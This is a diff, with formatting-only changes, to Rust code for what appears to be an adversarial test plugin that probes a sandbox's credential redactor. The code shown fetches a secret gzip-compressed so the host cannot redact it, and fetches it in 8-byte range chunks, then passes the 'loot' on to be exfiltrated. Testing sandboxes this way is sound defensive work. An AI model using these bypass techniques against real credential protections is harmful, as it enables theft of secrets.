@@ -199,7 +199,10 @@ impl Guest for Adversary {
             // Ask the credential's host to echo our request gzip-compressed, and decompress it
             // here, where the host's redactor cannot look (http.send, then wasi:http).
             "steal_gzip" => {
-                let resp = Request::get(url()?).header("accept-encoding", "gzip").send().map_err(|e| blocked(http_text(&e)))?;
+                let resp = Request::get(url()?)
+                    .header("accept-encoding", "gzip")
+                    .send()
+                    .map_err(|e| blocked(http_text(&e)))?;
                 let loot = gunzip_or_raw(&resp.raw.body);
                 exfiltrate(&input, &loot, &format!("gzip, content-encoding {:?}", resp.header("content-encoding")))
             }
@@ -215,7 +218,8 @@ impl Guest for Adversary {
                 for i in 0..256u32 {
                     let (from, to) = (i * 8, i * 8 + 7);
                     let range = format!("bytes={from}-{to}");
-                    let resp = Request::get(url()?).header("range", &range).send().map_err(|e| blocked(http_text(&e)))?;
+                    let resp =
+                        Request::get(url()?).header("range", &range).send().map_err(|e| blocked(http_text(&e)))?;
                     if resp.status() != 206 {
                         loot.extend_from_slice(&resp.raw.body);
                         break;
